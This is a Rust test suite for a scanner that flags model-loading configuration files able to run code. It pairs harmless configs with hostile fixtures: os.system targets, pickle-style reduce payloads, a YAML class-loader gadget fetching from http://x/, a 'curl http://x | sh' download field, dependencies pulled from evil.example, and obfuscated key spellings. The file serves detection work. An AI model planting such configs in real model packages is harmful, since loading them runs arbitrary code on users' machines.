//! Configurations and small files that name the code by which a model is loaded, a hostile one and its harmless neighbour
//! for each loader. `None` is clean, else the least severity.

use std::path::Path;

use casemate_artifact::ArtifactSeverity::{self, Dangerous, Review, Suspicious};
use casemate_artifact::{ScanConfig, scan_bytes, scan_path};

use crate::assemble::{member, zip};

type Row = (&'static str, &'static str, Option<ArtifactSeverity>);

fn check(rows: &[Row]) {
    for (name, text, least) in rows {
        let r = scan_bytes(name, text.as_bytes(), &ScanConfig::default());
        match least {
            None => assert!(r.is_clean(), "{name} {text:?}: {r:?}"),
            Some(s) => assert!(r.severity >= *s, "{name} {text:?}: {r:?}"),
        }
    }
}

#[test]
fn hugging_face() {
    check(&[
        (
            "model_index.json",
            r#"{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0", "unet": ["my_module", "MyUNet"]}"#,
            Some(Review),
        ),
        (
            "model_index.json",
            r#"{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0", "unet": ["os", "system"]}"#,
            Some(Suspicious),
        ),
        (
            "model_index.json",
            r#"{"unet":["my_module","MyUNet"],"_class_name":"StableDiffusionPipeline","_diffusers_version":"0.30.0"}"#,
            Some(Review),
        ),
        (
            "modular_model_index.json",
            r#"{"_blocks_class_name": "X", "_diffusers_version": "0.35", "unet": [null, null, {"repo": "a/b", "type_hint": ["my_module", "MyUNet"]}]}"#,
            Some(Review),
        ),
        (
            "model_index.json",
            r#"{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0", "unet": ["diffusers", "UNet2DConditionModel"], "vae": ["diffusers", "AutoencoderKL"], "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"], "tokenizer": ["transformers", "CLIPTokenizer"], "image_encoder": [null, null], "feature_extractor": ["transformers", "CLIPImageProcessor"], "requires_safety_checker": true}"#,
            None,
        ),
        (
            "model_index.json",
            r#"{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0", "unet": ["diffusers", "OnnxRuntimeModel"], "prior": ["wuerstchen", "WuerstchenPrior"], "dec": ["stable_cascade", "StableCascadeUNet"], "x": ["deepfloyd_if", "IFWatermarker"], "y": ["paint_by_example", "PaintByExampleImageEncoder"]}"#,
            None,
        ),
        ("config.json", r#"{"model_type": "llama", "attn_implementation": "evil/kernel"}"#, Some(Suspicious)),
        ("config.json", r#"{"model_type": "llama", "_attn_implementation": "evil/kernel:fn"}"#, Some(Suspicious)),
        (
            "config.json",
            r#"{"model_type": "llama", "attn_implementation": "flash_attention_2", "_attn_implementation": "sdpa"}"#,
            None,
        ),
        (
            "config.json",
            r#"{"custom_pipelines": {"pair": {"impl": "pair_cls.PairPipeline", "pt": ["AutoModel"], "type": "text"}}}"#,
            Some(Suspicious),
        ),
        ("processor_config.json", r#"{"auto_map": {"AutoProcessor": "proc.P"}}"#, Some(Suspicious)),
        ("preprocessor_config.json", r#"{"auto_map": {"AutoImageProcessor": "a/b--proc.P"}}"#, Some(Suspicious)),
        ("generation_config.json", r#"{"custom_generate": "evil/repo", "trust_remote_code": false}"#, Some(Suspicious)),
        ("custom_generate/generate.py", "import os\ndef generate(model,**k):\n    os.system('id')\n", Some(Suspicious)),
        (
            "generation_config.json",
            r#"{"do_sample": true, "eos_token_id": [1, 2], "transformers_version": "4.44"}"#,
            None,
        ),
        ("tool_config.json", r#"{"name": "x", "tool_class": "text_download.TextDownloadTool"}"#, Some(Suspicious)),
        (
            "adapter_config.json",
            r#"{"peft_type": "LORA", "megatron_config": {}, "megatron_core": "evil_module"}"#,
            Some(Suspicious),
        ),
        (
            "adapter_config.json",
            r#"{"peft_type": "LORA", "megatron_config": null, "megatron_core": "megatron.core", "auto_mapping": {"base_model_class": "X", "parent_library": "transformers.models.llama.modeling_llama"}}"#,
            None,
        ),
        (
            "2_Dense/config.json",
            r#"{"in_features": 768, "out_features": 512, "bias": true, "activation_function": "evil_mod.Act"}"#,
            Some(Suspicious),
        ),
        ("2_Dense/config.json", r#"{"in_features": 768, "activation_function": "os.system"}"#, Some(Suspicious)),
        (
            "config.json",
            r#"{"architectures": ["X"], "sentence_transformers": {"activation_fn": "evil.Act"}}"#,
            Some(Suspicious),
        ),
        ("config.json", r#"{"sbert_ce_default_activation_function": "evil.Act"}"#, Some(Suspicious)),
        ("wordembedding_config.json", r#"{"tokenizer_class": "evil.tok.Tok", "max_seq_length": 10}"#, Some(Suspicious)),
        (
            "router_config.json",
            r#"{"types": {"query_0_SpladePooling": "evil.models.X"}, "structure": {"query": ["query_0_SpladePooling"]}}"#,
            Some(Suspicious),
        ),
        (
            "2_Dense/config.json",
            r#"{"in_features": 768, "activation_function": "torch.nn.modules.activation.Tanh"}"#,
            None,
        ),
        (
            "config.json",
            r#"{"activation_function": "gelu_new", "tokenizer_class": "BertTokenizer", "sentence_transformers": {"activation_fn": "torch.nn.modules.linear.Identity", "version": "4.0"}}"#,
            None,
        ),
        (
            "wordembedding_config.json",
            r#"{"tokenizer_class": "sentence_transformers.models.tokenizer.WhitespaceTokenizer.WhitespaceTokenizer"}"#,
            None,
        ),
        (
            "router_config.json",
            r#"{"types": {"query_0_SpladePooling": "sentence_transformers.sparse_encoder.models.SpladePooling"}, "structure": {"query": ["q"]}}"#,
            None,
        ),
        (
            "my_set/my_set.py",
            "import datasets\nclass X(datasets.GeneratorBasedBuilder):\n    def _info(self): pass\n",
            Some(Suspicious),
        ),
    ]);
}

#[test]
fn servers() {
    check(&[
        (
            "MLmodel",
            "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: evil.py\n",
            Some(Suspicious),
        ),
        ("MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    code: code\n", Some(Review)),
        (
            "MLmodel",
            "flavors:\n  keras:\n    keras_module: evil_keras\n    loader_module: mlflow.keras\n",
            Some(Suspicious),
        ),
        ("data/pickle_module_info.txt", "evil_pickle", Some(Suspicious)),
        (
            "python_env.yaml",
            "python: 3.10.1\ndependencies:\n- --index-url http://evil.example/simple\n- numpy\n",
            Some(Review),
        ),
        ("conda.yaml", "dependencies:\n- python=3.10\n- pip:\n  - git+https://evil.example/x.git\n", Some(Review)),
        (
            "MLmodel",
            "artifact_path: model\nflavors:\n  python_function:\n    code: null\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n  sklearn:\n    code: null\n    pickled_model: model.pkl\n",
            None,
        ),
        ("data/pickle_module_info.txt", "mlflow.pytorch.pickle_module", None),
        (
            "python_env.yaml",
            "python: 3.10.1\nbuild_dependencies:\n- pip==23\n- setuptools\n- wheel\ndependencies:\n- -r requirements.txt\n",
            None,
        ),
        (
            "conda.yaml",
            "channels:\n- conda-forge\ndependencies:\n- python=3.10.1\n- pip<=22\n- pip:\n  - mlflow==2.1\n  - scikit-learn==1.2\nname: mlflow-env\n",
            None,
        ),
        (
            "MAR-INF/MANIFEST.json",
            r#"{"createdOn": "x", "runtime": "python", "model": {"modelName": "m", "serializedFile": "m.pt", "handler": "evil.py:entry", "modelVersion": "1.0"}, "archiverVersion": "0.8"}"#,
            Some(Suspicious),
        ),
        (
            "MAR-INF/MANIFEST.json",
            r#"{"createdOn": "x", "runtime": "python", "model": {"modelName": "m", "serializedFile": "m.pt", "handler": "image_classifier", "modelVersion": "1.0"}, "archiverVersion": "0.8"}"#,
            None,
        ),
        (
            "model-settings.json",
            r#"{"name": "m", "implementation": "models.Custom", "parameters": {"uri": "./x"}}"#,
            Some(Suspicious),
        ),
        (
            "model-settings.json",
            r#"{"name": "m", "implementation": "mlserver_sklearn.SKLearnModel", "parameters": {"uri": "./x.joblib"}}"#,
            None,
        ),
        ("config.pbtxt", "name: \"m\"\nbackend: \"python\"\nmax_batch_size: 8\n", Some(Suspicious)),
        (
            "config.pbtxt",
            "name: \"m\"\nplatform: \"tensorflow_savedmodel\"\nmodel_operations { op_library_filename: \"libevil.so\" }\n",
            Some(Suspicious),
        ),
        ("config.pbtxt", "name: \"m\"\nbackend: \"mybackend\"\nmax_batch_size: 8\n", Some(Review)),
        (
            "config.pbtxt",
            "name: \"m\"\nplatform: \"onnxruntime_onnx\"\nmax_batch_size: 8\ninput [ { name: \"x\" data_type: TYPE_FP32 dims: [3] } ]\n",
            None,
        ),
        ("config.pbtxt", "name: \"m\"\nbackend: \"pytorch\"\nmax_batch_size: 8\n", None),
        (
            "model-config.yaml",
            "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n",
            Some(Suspicious),
        ),
        (
            "model.yaml",
            "name: m\nversion: v1\nmodule: evil_mod\nlabels: {}\noptions: {}\nmetadata: {}\ncontext:\n  framework_name: sklearn\nsignatures:\n  predict:\n    batchable: false\napi_version: v1\n",
            Some(Suspicious),
        ),
        (
            "model.yaml",
            "name: m\nversion: v1\nmodule: bentoml.sklearn\nlabels: {}\ncontext:\n  framework_name: sklearn\nsignatures:\n  predict:\n    batchable: false\napi_version: v1\n",
            None,
        ),
        (
            "genai_config.json",
            r#"{"model": {"decoder": {"session_options": {"custom_ops_library": "libevil.so"}}}}"#,
            Some(Suspicious),
        ),
        (
            "genai_config.json",
            r#"{"model": {"decoder": {"session_options": {"log_id": "x", "provider_options": []}}}}"#,
            None,
        ),
        (
            "olive.json",
            r#"{"input_model": {"type": "PyTorchModel", "config": {"model_script": "user_script.py", "script_dir": "."}}, "user_script": "evil.py"}"#,
            Some(Suspicious),
        ),
    ]);
}

#[test]
fn targets_in_yaml() {
    check(&[
        ("model_config.yaml", "_component_: os.system\ncommand: id\n", Some(Suspicious)),
        ("model_config.yaml", "_target_: torch.os.system\n", Some(Suspicious)),
        ("model_config.yaml", "_target_: transformers.utils.import_utils.os.system\n", Some(Suspicious)),
        ("model_config.yaml", "_target_ : os.system\n", Some(Suspicious)),
        ("model_config.yaml", "_target_: >-\n  os.system\ncommand: id\n", Some(Suspicious)),
        ("model_config.yaml", "_target_: &x os.system\n", Some(Suspicious)),
        ("model_config.yaml", "_target_: !!str os.system\n", Some(Suspicious)),
        ("model_config.yaml", "\"\\x5ftarget_\": \"os.system\"\n", Some(Suspicious)),
        ("model_config.yaml", "_target_: \"os\\x2esystem\"\n", Some(Suspicious)),
        ("model_config.yaml", "x: os.system\ny:\n  _target_: ${x}\n", Some(Review)),
        ("model_config.yaml", "x: &a os.system\ny:\n  _target_: *a\n", Some(Review)),
        ("model_config.yaml", "? _target_\n: os.system\n", Some(Suspicious)),
        ("model_config.yaml", "_target_: hydra.utils.get_method\npath: os.system\n", Some(Suspicious)),
        ("model_config.yaml", "target: os.system\nmodel:\n  x: 1\n", Some(Suspicious)),
        ("model_config.yaml", "m: {_target_: os.system, command: id}\n", Some(Suspicious)),
        ("model_config.yaml", "model:\n  class_path: os.system\n  init_args:\n    command: id\n", Some(Suspicious)),
        ("model_config.yaml", "_target_: builtins.eval\n_args_: ['1']\n", Some(Suspicious)),
        ("model_config.yaml", "_target_: shutil.rmtree\npath: /x\n", Some(Suspicious)),
        ("model_config.yaml", "_target_: runpy.run_path\npath_name: x.py\n", Some(Suspicious)),
        ("model_config.yaml", "_target_: nemo.collections.asr.models.EncDecCTCModel\nx: 1\n", None),
        ("model_config.yaml", "model:\n  class_path: lightning.pytorch.demos.Demo\n  init_args:\n    a: 1\n", None),
        (
            "model_config.yaml",
            "target: nemo.collections.asr.models.rnnt_bpe_models.EncDecRNNTBPEModel\nnemo_version: 1.0\n",
            None,
        ),
        ("model_config.yaml", "_target_: transformers.utils.logging.get_logger\n", None),
        ("model_config.yaml", "_component_: torchtune.models.llama2.llama2_7b\n", None),
        ("model_config.yaml", "loss:\n  _target_: torch.nn.CrossEntropyLoss\n", None),
        ("model_config.yaml", "optim:\n  _target_: torch.optim.AdamW\n  _partial_: true\n", None),
        ("config.json", r#"{"m": {"_target_": "torch.os.system"}}"#, Some(Suspicious)),
        ("config.json", r#"{"m": {"_component_": "os.system"}}"#, Some(Suspicious)),
        ("config.json", r#"{"config": "{\"_target_\": \"os.system\", \"command\": \"id\"}"}"#, Some(Suspicious)),
        ("config.toml", "[model]\n_target_ = \"os.system\"\n", Some(Suspicious)),
    ]);
}

#[test]
fn objects_as_json() {
    check(&[
        (
            "chain.json",
            r#"{"lc": 1, "type": "constructor", "id": ["evil", "mod", "Cls"], "kwargs": {}}"#,
            Some(Suspicious),
        ),
        (
            "chain.json",
            r#"{"lc": 2, "type": "constructor", "id": ["os", "system"], "args": ["id"], "kwargs": {}}"#,
            Some(Suspicious),
        ),
        (
            "chain.json",
            r#"{"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "prompt", "PromptTemplate"], "kwargs": {"template": "Tell {x}", "template_format": "f-string"}}"#,
            None,
        ),
        (
            "chain.json",
            r#"{"lc": 1, "type": "constructor", "id": ["langchain_core", "messages", "HumanMessage"], "kwargs": {"content": "hi"}}"#,
            None,
        ),
        ("config.json", r#"{"_type": "faiss", "allow_dangerous_deserialization": true}"#, Some(Suspicious)),
        ("m.json", r#"{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}"#, Some(Suspicious)),
        ("m.json", r#"{"a": {"py/object": "subprocess.Popen", "args": 1}}"#, Some(Suspicious)),
        ("m.json", r#"{"a": {"py/repr": "os/os.system('id')"}}"#, Some(Suspicious)),
        ("m.json", r#"{"a": {"py/object": "evil.mod.Cls", "x": 1}}"#, Some(Review)),
        (
            "m.json",
            r#"{"a": {"py/tuple": [1, 2]}, "b": {"py/object": "collections.OrderedDict"}, "c": {"py/set": [1]}}"#,
            None,
        ),
        (
            "predictor.json",
            r#"{"__kind__": "instance", "class": "os.system", "args": ["id"], "kwargs": {}}"#,
            Some(Suspicious),
        ),
        (
            "predictor.json",
            r#"{"__kind__": "instance", "class": "evil.Cls", "args": [], "kwargs": {}}"#,
            Some(Suspicious),
        ),
        (
            "predictor.json",
            r#"{"__kind__": "instance", "class": "gluonts.model.predictor.ParallelizedPredictor", "args": [], "kwargs": {"x": {"__kind__": "type", "class": "numpy.float32"}}}"#,
            None,
        ),
        ("type.txt", "os.system", Some(Suspicious)),
        (
            "team.json",
            r#"{"provider": "evil.mod.Agent", "component_type": "agent", "version": 1, "config": {}}"#,
            Some(Suspicious),
        ),
        (
            "team.json",
            r#"{"provider": "autogen_core.tools.FunctionTool", "component_type": "tool", "config": {"source_code": "def f():\n  return 1", "name": "f"}}"#,
            Some(Suspicious),
        ),
        (
            "team.json",
            r#"{"provider": "autogen_agentchat.agents.AssistantAgent", "component_type": "agent", "version": 1, "config": {"name": "a"}}"#,
            None,
        ),
        (
            "metadata.json",
            r#"{"train_schema": {"nodes": {"a": {"needs": {}, "uses": "evil.mod.C", "constructor_name": "create", "fn": "train", "config": {}}}}}"#,
            Some(Suspicious),
        ),
        (
            "metadata.json",
            r#"{"train_schema": {"nodes": {"a": {"needs": {}, "uses": "rasa.nlu.tokenizers.whitespace_tokenizer.WhitespaceTokenizer", "constructor_name": "create", "fn": "train", "config": {}}}}}"#,
            None,
        ),
        ("config.json", r#"{"model": {"type": "os.system", "x": 1}}"#, Some(Review)),
        ("params.json", r#"{"loader": {"callable": "subprocess.run", "args": ["id"]}}"#, Some(Suspicious)),
        ("vocab.json", r#"["os.system", "subprocess.run", "a"]"#, None),
        (
            "tokenizer.json",
            r#"{"model": {"vocab": {"os.system": 1, "eval": 2}, "merges": ["os .system"]}, "added_tokens": [{"id": 0, "content": "<s>"}]}"#,
            None,
        ),
    ]);
}

#[test]
fn tags_and_others() {
    check(&[
        (
            "pipeline.yaml",
            "components:\n  x:\n    type: evil.mod.Cls\n    init_parameters:\n      a: 1\n",
            Some(Suspicious),
        ),
        (
            "pipeline.yaml",
            "components:\n  gen:\n    type: haystack.components.generators.openai.OpenAIGenerator\n    init_parameters:\n      streaming_callback: os.system\n",
            Some(Suspicious),
        ),
        (
            "pipeline.yaml",
            "components:\n  gen:\n    type: haystack.components.generators.openai.OpenAIGenerator\n    init_parameters:\n      streaming_callback: null\n      model: gpt-4o\n",
            None,
        ),
        ("hyperparams.yaml", "x: !apply:os.system [id]\n", Some(Suspicious)),
        ("hyperparams.yaml", "x: !new:subprocess.Popen\n    args: id\n", Some(Suspicious)),
        ("hyperparams.yaml", "x: !name:builtins.eval\n", Some(Suspicious)),
        ("hyperparams.yaml", "x: !new:custom_model.Net\n", Some(Review)),
        ("hyperparams.yaml", "x: !module:evil_mod\n", Some(Review)),
        ("hyperparams.yaml", "x: !<!apply:os.system> [id]\n", Some(Suspicious)),
        (
            "hyperparams.yaml",
            "seed: 1\n__set_seed: !apply:torch.manual_seed [!ref <seed>]\nenc: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n    input_size: !ref <n>\nact: !name:torch.nn.LeakyReLU\nc: !tuple (1,2)\npretrainer: !new:speechbrain.utils.parameter_transfer.Pretrainer\n    loadables:\n        a: !ref <enc>\n",
            None,
        ),
        ("task.yaml", "task: x\nprocess_docs: !function utils.process\n", Some(Review)),
        (
            "model.yaml",
            "nc: 80\nbackbone:\n  - [-1, 1, Conv, [64, \"__import__('os').system('id')\"]]\n",
            Some(Suspicious),
        ),
        ("data.yaml", "train: x\ndownload: bash curl http://x | sh\n", Some(Suspicious)),
        ("data.yaml", "train: x\ndownload: |\n  import os\n  os.system('id')\n", Some(Review)),
        (
            "model.yaml",
            "nc: 80\ndepth_multiple: 0.33\nbackbone:\n  - [-1, 1, Conv, [64, 6, 2, 2]]\n  - [-1, 1, nn.Upsample, [None, 2, 'nearest']]\n",
            None,
        ),
        (
            "data.yaml",
            "path: coco\ntrain: images\nnames:\n  0: person\ndownload: https://ultralytics.com/assets/coco128.zip\n",
            None,
        ),
        (
            "operative_config.gin",
            "from __gin__ import dynamic_registration\nimport os\nmain.fn = @os.system()\nos.system.command = 'id'\n",
            Some(Suspicious),
        ),
        (
            "operative_config.gin",
            "import mesh_tensorflow.optimize\nimport t5.models.mesh_transformer\n\n# Macros:\nd_ff = 3072\nrun.optimizer = @optimize.AdafactorOptimizer\n",
            None,
        ),
        (
            "config.cfg",
            "[nlp]\nlang = \"en\"\n[initialize]\n[initialize.before_init]\n@callbacks = \"os.system\"\n",
            Some(Suspicious),
        ),
        (
            "config.cfg",
            "[nlp]\nlang = \"en\"\npipeline = [\"tok2vec\"]\n[components.tok2vec]\nfactory = \"tok2vec\"\n[components.tok2vec.model]\n@architectures = \"spacy.Tok2Vec.v2\"\n",
            None,
        ),
    ]);
}

/// A component of a library that nobody knows is for review, and worse where code of its name lies there.
#[test]
fn code_beside_the_file() {
    let index = r#"{"_class_name": "P", "_diffusers_version": "0.30.0", "unet": ["my_module", "MyUNet"]}"#;
    let folder = tempfile::tempdir().expect("a folder");
    let scan = |name: &str, text: &str| {
        let path = folder.path().join(name);
        std::fs::write(&path, text).expect("written");
        scan_path(&path, &ScanConfig::default()).expect("read")
    };
    let write = |name: &str| {
        let path = folder.path().join(name);
        std::fs::create_dir_all(path.parent().unwrap_or(Path::new("."))).expect("a folder");
        std::fs::write(path, "x = 1\n").expect("written");
    };
    assert_eq!(scan("model_index.json", index).severity, Review);
    write("unet/my_module.py");
    assert_eq!(scan("model_index.json", index).severity, Suspicious);
    let own = "net:\n  _target_: acme.nets.Net\n";
    assert!(scan("c.yaml", own).is_clean());
    write("acme/nets.py");
    assert_eq!(scan("c.yaml", own).severity, Suspicious);
    assert!(scan("g.gin", "import other\n").is_clean());
    write("other.py");
    assert_eq!(scan("g.gin", "import other\n").severity, Suspicious);
    // A name that would leave the folder is looked for nowhere.
    assert_eq!(scan("model_index.json", &index.replace("my_module", "../my_module")).severity, Review);
    // In an archive.
    for (code, severity) in [("unet/my_module.py", Suspicious), ("unet/else.py", Review)] {
        let bytes = zip(&[member("m/model_index.json", index.as_bytes()), member(&format!("m/{code}"), b"")]);
        let r = scan_bytes("m.zip", &bytes, &ScanConfig::default());
        let at_index = r.findings.iter().filter(|f| f.member.ends_with(".json")).map(|f| f.severity).max();
        assert_eq!(at_index, Some(severity), "{code}: {r:?}");
    }
}

/// Names are found however many fields stand before them, and many names cost no more than their limit.
#[test]
fn names_behind_many_fields() {
    let filler: String = (0..400).map(|i| format!("\"a{i}\": 1, ")).collect();
    for named in [
        r#""_target_": "os.system""#,
        r#""py/object": "subprocess.Popen""#,
        r#""__kind__": "instance", "class": "os.system""#,
        r#""lc": 1, "id": ["os", "system"]"#,
        r#""_diffusers_version": "1", "unet": ["os", "system"]"#,
    ] {
        let r = scan_bytes("c.json", format!("{{{filler}{named}}}").as_bytes(), &ScanConfig::default());
        assert_eq!(r.severity, Dangerous, "{named}: {r:?}");
    }
    let many: String = (0..5000).map(|i| format!("- _target_: acme{i}.Net\n")).collect();
    let r = scan_bytes("c.yaml", format!("{many}- _target_: os.system\n").as_bytes(), &ScanConfig::default());
    assert_eq!(r.severity, Dangerous);
    let wide: Vec<u8> = "\u{feff}_target_: os.system\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(scan_bytes("c.yaml", &wide, &ScanConfig::default()).severity, Dangerous);
}

/// Settings inside the strings of other formats.
#[test]
fn targets_in_metadata() {
    let file = |value: &str| {
        let header = format!("{{\"__metadata__\":{{\"config\":\"{}\"}}}}", value.replace('"', "\\\""));
        let header = format!("{header:<0$}", header.len().div_ceil(8) * 8);
        [&(header.len() as u64).to_le_bytes()[..], header.as_bytes()].concat()
    };
    for (value, severity) in [
        (r#"{"_target_": "os.system"}"#, Dangerous),
        ("{'_target_': 'os.system', 'command': 'id'}", Dangerous),
        (r#"{"_target_": "torch.nn.Linear"}"#, ArtifactSeverity::Data),
    ] {
        assert_eq!(scan_bytes("m.safetensors", &file(value), &ScanConfig::default()).severity, severity, "{value}");
    }
}

/// The index of a pipeline with as many components as are judged, and with one more.
#[test]
fn components_at_the_limit_and_past_it() {
    let index = |n: usize| {
        let components: String = (0..n).map(|i| format!(", \"c{i}\": [\"stable_diffusion\", \"X\"]")).collect();
        format!("{{\"_class_name\": \"P\", \"_diffusers_version\": \"1\"{components}}}")
    };
    assert!(scan_bytes("model_index.json", index(1024).as_bytes(), &ScanConfig::default()).is_clean());
    assert!(!scan_bytes("model_index.json", index(1025).as_bytes(), &ScanConfig::default()).complete);
}
